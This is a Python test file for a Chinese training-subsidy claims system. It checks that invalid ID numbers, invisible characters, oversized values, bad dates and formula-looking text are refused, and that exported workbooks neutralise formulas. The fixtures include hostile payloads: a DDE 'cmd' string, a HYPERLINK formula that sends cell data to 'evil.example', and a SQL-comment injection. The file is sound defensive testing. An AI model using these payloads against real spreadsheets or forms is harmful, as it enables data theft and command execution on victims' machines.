"""Bad input, table by table: each answered by a clear Chinese 4xx that changes nothing.

Every case goes through the API and, where a page has a form for it, the HTML form;
after each refusal no row is written or changed and no audit event is recorded. The
spreadsheet defences (zip bomb, XXE, macros, a renamed file, too many rows, formula
cells) are proven in tests/claims/test_imports.py; what the import adds here is the
refusal of invisible characters. Formula injection into exported workbooks is at the
end of this file.
"""

from __future__ import annotations

import re
from datetime import date
from typing import Any

from django.apps import apps
from django.core.exceptions import ValidationError
from django.urls import URLPattern, URLResolver, get_resolver

import pytest
from rest_framework.test import APIClient

from accounts.models import User
from altay_skills.errors import DomainError
from altay_skills.plain_text import (
    checked_reason,
    hidden_character_in,
    multi_line_text,
    plain_text_problem,
    single_line_text,
)
from claims import services
from claims.models import Claim
from tests.factories import make_id_number
from trainees.id_numbers import check_char
from trainees.models import Trainee

CHINESE = re.compile(r"[\u4e00-\u9fff]")
VALID_ID = make_id_number(date(1990, 5, 17), serial=321)
FULL_WIDTH = str.maketrans("0123456789X", "０１２３４５６７８９Ｘ")
ARABIC_INDIC = str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")


def _with_check(body17: str) -> str:
    return body17 + check_char(body17)


BAD_ID_NUMBERS = {
    "wrong check digit": VALID_ID[:17] + ("0" if VALID_ID[17] != "0" else "1"),
    "full-width digits": VALID_ID.translate(FULL_WIDTH),
    "Arabic-Indic digits": VALID_ID.translate(ARABIC_INDIC),
    "February 30": _with_check("65430119900230123"),
    "month 13": _with_check("65430119901301123"),
    "future birth date": _with_check("65430120900101123"),
    "born before 1900": _with_check("65430118991231123"),
    "17 characters": VALID_ID[:17],
    "19 characters": VALID_ID + "1",
    "letter inside": VALID_ID[:10] + "A" + VALID_ID[11:],
    "NUL byte": VALID_ID[:9] + "\x00" + VALID_ID[10:],
    # Issue 14 (9): the first two digits name a province of GB/T 2260.
    "province 99": _with_check("99430119900517123"),
    "province 00": _with_check("00430119900517123"),
    "province 10": _with_check("10430119900517123"),
    "province 66": _with_check("66430119900517123"),
    "province 91": _with_check("91430119900517123"),
    "blank": "   ",
    "100k characters": "1" * 100_000,
}

#: Text nobody can see, in every field where people type text.
BAD_TEXT = {
    "NUL": "张\x00三",
    "BEL": "张\x07三",
    "ESC": "张\x1b[31m三",
    "right-to-left override U+202E": "张\u202e三",
    "left-to-right isolate U+2066": "张\u2066三\u2069",
    "zero-width space U+200B": "张\u200b三",
    "byte order mark": "\ufeff张三",
    "line separator U+2028": "张\u2028三",
    "tag character U+E0041": "张\U000e0041三",
    "private use U+E000": "张\ue000三",
    "100k characters": "张" * 100_000,
}
TEXT_IDS = list(BAD_TEXT)
#: Text a spreadsheet would run as a formula (issue 14, 9): refused wherever people
#: type text, as the import refuses it.
FORMULA_TEXT = {
    "=": "=1+1",
    "@SUM": "@SUM(A1)",
    "-2+3": "-2+3",
    "+": "+cmd|' /C calc'!A0",
}
FORMULA_IDS = list(FORMULA_TEXT)

BAD_AMOUNTS = {
    "negative": "-1.00",
    "NaN": "NaN",
    "Infinity": "Infinity",
    "-Infinity": "-Infinity",
    "1e309": "1e309",
    "three decimals": "1800.001",
    "10^15": "1000000000000000",
    "empty": "",
    "text": "一千八百",
}
# Full-width digits in an amount ("１８００") are the same number to Decimal and are
# accepted as typed with a Chinese input method; in an ID number they are refused.

BAD_DATES = {
    "end before start": {"training_start": "2020-03-31", "training_end": "2020-03-01"},
    "9999-12-31": {"training_start": "2020-03-01", "training_end": "9999-12-31"},
    "year 10000": {"training_start": "2020-03-01", "training_end": "10000-01-01"},
    "February 30": {"training_start": "2020-02-30", "training_end": "2020-03-31"},
    "words": {"training_start": "三月一日", "training_end": "2020-03-31"},
    "SQL": {"training_start": "2020-03-01'; --", "training_end": "2020-03-31"},
    "year 1899": {"training_start": "1899-03-01", "training_end": "2020-03-31"},
    "empty": {"training_start": "", "training_end": "2020-03-31"},
}


def counts() -> dict[str, int]:
    """Rows of every model of the project's apps, audit events included."""
    labels = ("accounts", "trainees", "programs", "claims", "reporting")
    return {
        model._meta.label: model._default_manager.count()
        for label in labels
        for model in apps.get_app_config(label).get_models()
    }


def has_chinese(payload: Any) -> bool:
    return bool(CHINESE.search(str(payload)))


def api(user: User | None) -> APIClient:
    client = APIClient()
    if user is not None:
        client.force_authenticate(user)
    return client


def refused_by_api(response: Any, field: str | None = None) -> dict:
    assert response.status_code == 400, response.content[:500]
    body = response.json()
    assert has_chinese(body["message"])
    if field is not None:
        assert field in body["fields"], body
        assert has_chinese(body["fields"][field]), body
    return body


# --- ID numbers -----------------------------------------------------------------------
def trainee_body(**overrides: Any) -> dict[str, Any]:
    body = {"id_number": VALID_ID, "name": "张三", "household": "rural"}
    return {**body, **overrides}


@pytest.mark.django_db
@pytest.mark.parametrize("number", BAD_ID_NUMBERS.values(), ids=list(BAD_ID_NUMBERS))
def test_a_bad_id_number_is_refused_by_the_api_and_the_form(
    clerk: User, client: Any, number: str
) -> None:
    client.force_login(clerk)
    before = counts()

    body = refused_by_api(
        api(clerk).post(
            "/api/trainees/", trainee_body(id_number=number), format="json"
        ),
        "id_number",
    )
    assert body["code"] == "invalid_id_number"
    page = client.post("/trainees/register/", trainee_body(id_number=number))

    assert page.status_code == 400
    assert has_chinese(page.context["result"]["registration"].errors["id_number"])
    assert counts() == before


@pytest.mark.django_db
def test_a_lowercase_x_is_the_same_number_as_upper_case(clerk: User) -> None:
    body = next(
        f"65430119900517{n:03d}"
        for n in range(1000)
        if check_char(f"65430119900517{n:03d}") == "X"
    )
    response = api(clerk).post(
        "/api/trainees/", trainee_body(id_number=f" {body}x "), format="json"
    )

    assert response.status_code == 201, response.content
    assert Trainee.objects.get().id_number == f"{body}X"


# --- Text: names, certificate numbers, reasons ----------------------------------------
@pytest.mark.django_db
@pytest.mark.parametrize("text", BAD_TEXT.values(), ids=TEXT_IDS)
def test_invisible_or_endless_text_in_a_name_is_refused(
    clerk: User, client: Any, text: str
) -> None:
    client.force_login(clerk)
    before = counts()

    refused_by_api(
        api(clerk).post("/api/trainees/", trainee_body(name=text), format="json"),
        "name",
    )
    page = client.post("/trainees/register/", trainee_body(name=text))

    assert page.status_code == 400
    assert has_chinese(page.context["result"]["registration"].errors["name"])
    assert counts() == before


@pytest.mark.django_db
@pytest.mark.parametrize("text", FORMULA_TEXT.values(), ids=FORMULA_IDS)
def test_a_name_starting_like_a_formula_is_refused_by_the_api_and_the_form(
    clerk: User, client: Any, text: str
) -> None:
    client.force_login(clerk)
    before = counts()

    body = refused_by_api(
        api(clerk).post("/api/trainees/", trainee_body(name=text), format="json"),
        "name",
    )
    page = client.post("/trainees/register/", trainee_body(name=text))

    assert "= + - @" in str(body["fields"]["name"])
    assert page.status_code == 400
    assert "= + - @" in str(page.context["result"]["registration"].errors["name"])
    assert counts() == before


@pytest.mark.parametrize("text", FORMULA_TEXT.values(), ids=FORMULA_IDS)
def test_the_one_text_validator_refuses_a_formula_start_everywhere(text: str) -> None:
    """Serializers, forms, the import and the services ask the same function."""
    assert "= + - @" in (plain_text_problem(text) or "")
    assert "= + - @" in (plain_text_problem(text, multiline=True) or "")
    for validate in (single_line_text, multi_line_text):
        with pytest.raises(ValidationError):
            validate(text)
    with pytest.raises(DomainError):
        checked_reason(text, missing="请填写理由")


@pytest.mark.parametrize(
    "text",
    ["阿依古丽-买买提", "Ayguli Memet-Ömer", "1+1", "a@b.cn", "CERT-0001", "材料=原件"],
)
def test_the_signs_are_allowed_after_the_first_character(text: str) -> None:
    assert plain_text_problem(text) is None


@pytest.mark.django_db
def test_the_admin_forms_refuse_a_formula_start_and_hidden_characters() -> None:
    from programs.admin import InstitutionForm, PolicyEntryForm

    fields = {
        "name": InstitutionForm().fields["name"],
        **{
            name: PolicyEntryForm().fields[name]
            for name in ("clause", "source_document", "note")
        },
    }

    for name, field in fields.items():
        for text in ("@SUM(A1)", "-2+3", "依据\u202e"):
            with pytest.raises(ValidationError):
                field.clean(text)
        assert field.clean("阿行办发〔2019〕50号") == "阿行办发〔2019〕50号", name


@pytest.mark.django_db
@pytest.mark.parametrize("text", FORMULA_TEXT.values(), ids=FORMULA_IDS)
def test_an_institution_name_starting_like_a_formula_is_refused(
    clerk: User, text: str
) -> None:
    before = counts()
    body = {"name": text, "kind": "training_institution", "credit_code": "x"}

    refused_by_api(api(clerk).post("/api/institutions/", body, format="json"), "name")
    assert counts() == before


@pytest.mark.django_db
@pytest.mark.parametrize("text", BAD_TEXT.values(), ids=TEXT_IDS)
def test_invisible_or_endless_text_in_an_institution_name_is_refused(
    clerk: User, text: str
) -> None:
    before = counts()
    body = {"name": text, "kind": "training_institution", "credit_code": "x"}

    refused_by_api(api(clerk).post("/api/institutions/", body, format="json"), "name")
    assert counts() == before


def claim_body(trainee: Trainee, institution: Any, **overrides: Any) -> dict:
    body = {
        "trainee": trainee.pk,
        "program": 9,
        "trade": "4-03-02-01",
        "level": "intermediate",
        "institution": institution.pk,
        "training_start": "2020-03-01",
        "training_end": "2020-03-31",
        "passed": True,
        "certificate_number": "CERT-0001",
        "employment": "employed",
        "amount_requested": "1800.00",
    }
    return {**body, **overrides}


def claim_form(trainee: Trainee, institution: Any, **overrides: Any) -> dict:
    body = claim_body(trainee, institution, **overrides)
    body["work_in_lieu_months"] = 0
    body["passed"] = "on" if body["passed"] else ""
    return body


def post_claim_everywhere(
    clerk: User, client: Any, trainee: Trainee, institution: Any, **overrides: Any
) -> tuple[dict, Any]:
    """The same claim through POST /api/claims/, the dry run and the claim form."""
    body = claim_body(trainee, institution, **overrides)
    refused = refused_by_api(api(clerk).post("/api/claims/", body, format="json"))
    check = api(clerk).post("/api/claims/check/", body, format="json")
    assert check.status_code in (200, 400), check.content[:300]
    page = client.post("/claims/new/", claim_form(trainee, institution, **overrides))
    assert page.status_code == 400
    return refused, page.context["form"]


CLAIM_FIELD_CASES = [
    *(
        pytest.param("certificate_number", v, id=f"certificate-{k}")
        for k, v in BAD_TEXT.items()
    ),
    *(
        pytest.param("certificate_number", v, id=f"certificate-formula-{k}")
        for k, v in FORMULA_TEXT.items()
    ),
    *(
        pytest.param("amount_requested", v, id=f"amount-{k}")
        for k, v in BAD_AMOUNTS.items()
    ),
]


@pytest.mark.django_db
@pytest.mark.parametrize(("field", "value"), CLAIM_FIELD_CASES)
def test_a_bad_certificate_number_or_amount_is_refused(
    clerk: User, client: Any, trainee: Trainee, institution: Any, field: str, value: str
) -> None:
    client.force_login(clerk)
    before = counts()

    body, form = post_claim_everywhere(
        clerk, client, trainee, institution, **{field: value}
    )

    assert has_chinese(body["fields"][field])
    assert has_chinese(form.errors[field])
    assert counts() == before


@pytest.mark.django_db
@pytest.mark.parametrize("dates", BAD_DATES.values(), ids=list(BAD_DATES))
def test_bad_training_dates_are_refused(
    clerk: User, client: Any, trainee: Trainee, institution: Any, dates: dict
) -> None:
    client.force_login(clerk)
    before = counts()

    body, form = post_claim_everywhere(clerk, client, trainee, institution, **dates)

    assert {"training_start", "training_end"} & set(body["fields"])
    assert has_chinese(body["fields"])
    assert {"training_start", "training_end"} & set(form.errors)
    assert counts() == before


#: Reasons that say nothing a reviewer could act on or an auditor read: a digit, one
#: letter, punctuation only.
SAYS_NOTHING = ["0", "x", "……", "。。", "123"]
SAYS_NOTHING_IDS = ["a digit", "one letter", "ellipsis", "full stops", "digits"]


@pytest.fixture
def pending_claim(claim_input: Any, clerk: User) -> Claim:
    claim = services.claim_create(data=claim_input(), actor=clerk)
    return services.claim_submit(claim_id=claim.pk, actor=clerk)


def claim_state(claim: Claim) -> tuple:
    claim.refresh_from_db()
    return (claim.status, claim.reviewed_by_id, claim.events.count())


@pytest.mark.django_db
@pytest.mark.parametrize("action", ["reject", "return"])
@pytest.mark.parametrize(
    "reason",
    [v for k, v in BAD_TEXT.items() if k != "line separator U+2028"]
    + ["  ", *SAYS_NOTHING, *FORMULA_TEXT.values()],
    ids=[k for k in TEXT_IDS if k != "line separator U+2028"]
    + ["blank", *SAYS_NOTHING_IDS, *(f"formula {k}" for k in FORMULA_IDS)],
)
def test_a_bad_reason_is_refused(
    pending_claim: Claim, reviewer: User, client: Any, action: str, reason: str
) -> None:
    client.force_login(reviewer)
    before, state = counts(), claim_state(pending_claim)
    path = f"/api/claims/{pending_claim.pk}/{action}/"

    refused_by_api(api(reviewer).post(path, {"reason": reason}, format="json"))
    page = client.post(
        f"/claims/{pending_claim.pk}/review/", {"action": action, "reason": reason}
    )

    assert page.status_code == 400
    assert has_chinese(page.content.decode())
    assert counts() == before
    assert claim_state(pending_claim) == state


def test_line_breaks_are_allowed_in_a_reason_but_not_in_a_name() -> None:
    assert hidden_character_in("材料不全\r\n请补交\t证书", multiline=True) is None
    assert hidden_character_in("张三\n", multiline=False) == "U+000A"
    assert hidden_character_in("阿依古丽·买买提") is None
    assert hidden_character_in("Ayguli Memet-Ömer") is None


@pytest.mark.django_db
@pytest.mark.parametrize(
    "text",
    [v for k, v in BAD_TEXT.items() if "U+" in k or k == "byte order mark"],
    ids=[k for k in TEXT_IDS if "U+" in k or k == "byte order mark"],
)
def test_the_import_refuses_invisible_characters_naming_the_column(
    client: Any,
    clerk: User,
    trainee: Trainee,
    institution: Any,
    settings: Any,
    tmp_path: Any,
    text: str,
) -> None:
    """openpyxl itself cannot store C0 controls in a cell; bidi and zero-width
    characters it can, and the row is refused with the column named."""
    from tests.claims.test_imports import checked, good_row, results_of, xlsx

    settings.MEDIA_ROOT = tmp_path
    client.force_login(clerk)
    client.user = clerk
    before = counts()
    rows = [
        good_row(trainee, institution, certificate_number=f"S{text}1"),
        good_row(trainee, institution, trade="6-31-01-03", name=text),
    ]

    token, _ = checked(client, xlsx(rows))

    results = results_of(client, token)
    assert not results[3].ok and "【证书编号】含有不可见的" in results[3].reasons
    assert not results[4].ok and "【姓名】含有不可见的" in results[4].reasons
    after = counts()
    # the check itself is a job on record (issue 14, 4), with a 参考码 per row of a
    # valid ID number (issue 15, 2); nothing else was written
    assert after.pop("claims.ImportJob") == before.pop("claims.ImportJob") + 1
    references = "claims.ImportRowReference"
    assert after.pop(references) == before.pop(references) + 2
    assert after == before


# --- Ids past what the database can hold ----------------------------------------------
def api_id_routes() -> list[str]:
    """Every API route with an ``<int:pk>`` from the resolver."""
    found: list[str] = []

    def walk(patterns: Any, prefix: str) -> None:
        for p in patterns:
            if isinstance(p, URLResolver):
                walk(p.url_patterns, prefix + str(p.pattern))
            elif isinstance(p, URLPattern) and "<int:" in str(p.pattern):
                found.append(prefix + str(p.pattern))

    walk(get_resolver().url_patterns, "/")
    return sorted(r for r in found if r.startswith("/api/"))


@pytest.mark.django_db
@pytest.mark.parametrize("route", api_id_routes())
@pytest.mark.parametrize("method", ["get", "post"])
def test_an_id_past_64_bits_is_a_json_404(
    route: str, method: str, reviewer: User
) -> None:
    before = counts()
    path = re.sub(r"<int:\w+>", str(10**40), route)

    response = getattr(api(reviewer), method)(path, {}, format="json")

    # 400 where the body is checked first (a required reason), 403 where the role is
    # (a reviewer settling a recovery), 405 for a GET-only route: never a 500
    assert response.status_code in (400, 403, 404, 405), response.content[:300]
    if response.status_code != 405:
        assert has_chinese(response.json()["message"])
    assert counts() == before


# --- Formula injection into every exported workbook ------------------------------------
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")',
    "+1+1",
    "-1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
#: Every user-typed or admin-typed text column that an export can print.
TAINTED = {
    "trainees.Trainee": ["name", "phone"],
    "programs.Unit": ["name"],
    "programs.Program": ["name"],
    "programs.Trade": ["name"],
    "programs.Level": ["name"],
    "programs.Institution": ["name"],
    "claims.Claim": ["certificate_number"],
    "quarters.SpotCheck": ["note"],
    "finance.Payment": ["reference", "failure_reason"],
}


def taint_every_text_field() -> None:
    """Write a formula-looking payload into every row's user text, in place."""
    for label, fields in TAINTED.items():
        model = apps.get_model(label)
        for i, pk in enumerate(model._default_manager.values_list("pk", flat=True)):
            payload = PAYLOADS[i % len(PAYLOADS)]
            suffix = f"#{pk}"  # unique: some names are keys (unit, trade)
            values = {
                f: payload[: (model._meta.get_field(f).max_length or 99) - len(suffix)]
                + suffix
                for f in fields
            }
            model._default_manager.filter(pk=pk).update(**values)


def unsafe_cells(data: bytes) -> tuple[list[str], int]:
    """Cells that Excel would run as a formula, and how many payload cells were seen."""
    import io

    from openpyxl import load_workbook

    bad, seen = [], 0
    for ws in load_workbook(io.BytesIO(data)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                value = cell.value
                if cell.data_type == "f":
                    bad.append(f"{ws.title}!{cell.coordinate} is a formula: {value!r}")
                if not isinstance(value, str):
                    continue
                if any(p.lstrip("\t\r")[:6] in value for p in PAYLOADS if len(p) > 4):
                    seen += 1
                if value.startswith(FORMULA_LEADS) and not (
                    cell.data_type == "s" and cell.quotePrefix
                ):
                    bad.append(f"{ws.title}!{cell.coordinate} = {value!r}")
    return bad, seen


@pytest.mark.django_db
def test_no_exported_workbook_runs_user_text_as_a_formula(
    settings: Any,
    tmp_path: Any,
    claim_input: Any,
    reviewer: User,
    finance: User,
    django_capture_on_commit_callbacks: Any,
) -> None:
    """The finance workbook (rollup), the November review and the import's result copy,
    with formula-looking text in every text field they print."""
    import io

    from finance import services as reporting_services
    from finance.models import Payment, Rollup
    from reporting import review
    from tests.quarter_run import run_quarter

    settings.MEDIA_ROOT = tmp_path
    # the advances are paid while the reports are with the prefecture (五(二))
    run_quarter(claim_input, reviewer, finance=finance)
    assert Payment.objects.filter(kind="advance", status="paid").exists()
    taint_every_text_field()
    with django_capture_on_commit_callbacks(execute=True):
        reporting_services.rollup_request(quarter="2020Q1", actor=reviewer)
    rollup = Rollup.objects.get()
    assert rollup.workbook, rollup.error
    books = {"finance": (tmp_path / rollup.workbook).read_bytes()}
    out = io.BytesIO()
    review.write_review_workbook(review.review_figures(2020), out)
    books["review"] = out.getvalue()

    for name, data in books.items():
        bad, seen = unsafe_cells(data)
        assert not bad, (name, bad)
        assert seen, f"no payload reached the {name} workbook: the test proves nothing"


@pytest.mark.django_db
def test_the_import_result_copy_runs_no_cell_as_a_formula(
    client: Any, clerk: User, settings: Any, tmp_path: Any
) -> None:
    """Every column of two rows typed as text cells holding a formula-looking value;
    the result copy echoes them all (and its reasons quote them) as inert text."""
    from django.urls import reverse

    from tests.claims.test_imports import HEADERS, checked, xlsx

    settings.MEDIA_ROOT = tmp_path
    client.force_login(clerk)
    cells = {
        f"{chr(ord('A') + col)}{row}": PAYLOADS[(col + row) % len(PAYLOADS)]
        for col in range(len(HEADERS))
        for row in (3, 4)
    }
    token, page = checked(client, xlsx([{}, {}], text_cells=cells))
    assert page.status_code == 200

    copy = client.get(reverse("claims_import:result_xlsx", args=[token])).content
    bad, seen = unsafe_cells(copy)

    assert not bad
    assert seen >= len(HEADERS)
